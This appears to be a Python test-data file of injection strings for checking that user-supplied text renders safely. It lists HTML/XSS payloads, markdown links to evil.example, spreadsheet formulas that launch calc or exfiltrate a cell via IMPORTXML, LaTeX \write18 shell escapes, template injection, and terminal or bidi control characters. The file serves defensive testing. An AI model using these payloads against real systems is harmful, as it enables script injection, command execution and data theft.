"""What a site or the author of a plugin could write into any text, to act where it is shown."""

CANARY = "document.title='CANARY'"
# One line of characters to be read: what a declaration may hold.
LINES = (
    f'<img src=x onerror="{CANARY}">', f"<script>{CANARY}</script>", f"<svg/onload={CANARY}>", "<b>bold</b>",
    "<!-- x", "--> x", "]]>", "</td></tr></table><h1>out", "</summary></details><h1>out", f'" onmouseover="{CANARY}',
    "<a", "a<b", f"[click](javascript:{CANARY})", "![x](https://evil.example/x.png)", "[ref]: https://evil.example",
    "[x][ref]", "<https://evil.example>", "https://evil.example/?a=1", "(www.evil.example)", "someone@evil.example",
    "@someone", "mailto:a@evil.example", "[^1]", "[x] done", "# Heading", "#### Heading", "> quote", "- item",
    "+ item", "* item", "1. one", "12) twelve", "---", "===", "```sh", "~~~", "    indented", "a|b|c", "|:--|--:|",
    "\\|", "\\", "x\\", "\\\\", "`code`", "``", "`", "a ` b `` c", "*em*", "**strong**", "*", "_em_", "__strong__",
    "snake_case_", "~~gone~~", "&lt;", "&amp;lt;b&amp;gt;", "&#x3c;b&#x3e;", "&copy",
    '=HYPERLINK("https://evil.example","x")', "=1+2", "+1+cmd|' /C calc'!A0", "-1+2", "@SUM(1,2)", " =1+2", "+", "-",
    "$x^{$", "$\\frac{$", "$$x$$", "$`x`$", "%", "50 % & more", "\\input{x}", "\\write18{ls}", "{", "}", "^^4d", "#1",
    "~", "[0pt]", "*[1]", "\\\\[9pt]", "[red]x[/red]", "[link=https://evil.example]x", "[/]", ":smile:", "{{ 7*7 }}",
    "${x}", "!!python/object", "a: b", "'", '"', "null", "–", "æøå", "\\*", "\\`x\\`",
    f"<iframe srcdoc='<script>parent.{CANARY}</script>'></iframe>", f"<details open ontoggle={CANARY}>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x>", "<style>*{color:red}",
    f"<math><mtext><style><img src=x onerror={CANARY}>", "<form action=//evil.example><input autofocus>",
    "<object data=//evil.example/x>", "[x](data:text/html;base64,PHNjcmlwdD4=)", f"[x](&#106;avascript:{CANARY})",
    "[//evil.example/x](//evil.example/x)", "![][x]", "</script><script>x", "```mermaid",
    "$$\\href{https://evil.example}{x}$$", "\\(x\\)", "#1 GH-1 a/b#1", "+SUM(1)*cmd|'/C calc'!A0",
    '=IMPORTXML(CONCAT("//evil.example/",A1),"//a")', "\\immediate\\write18{ls}", "^^5cinput x",
    "\\csname x\\endcsname", '"| "-',
)  # fmt: skip
# What only data can hold: a declaration with these is refused.
ACTING = (
    "\x1b[31mred", "two\nlines", "two\r\n\r\n# lines", "a\u2028# b", "\u202eesrever", "a\tb", "bell\x07", "nul\x00",
    "a\u200bb", "a\u00adb", "a\u200fb", "a\u2060b", "\ufeffa", "a\U000e0041b", "a\u3164b", "\x1b]8;;https://evil.example\x07x",
)  # fmt: skip
ALL = LINES + ACTING
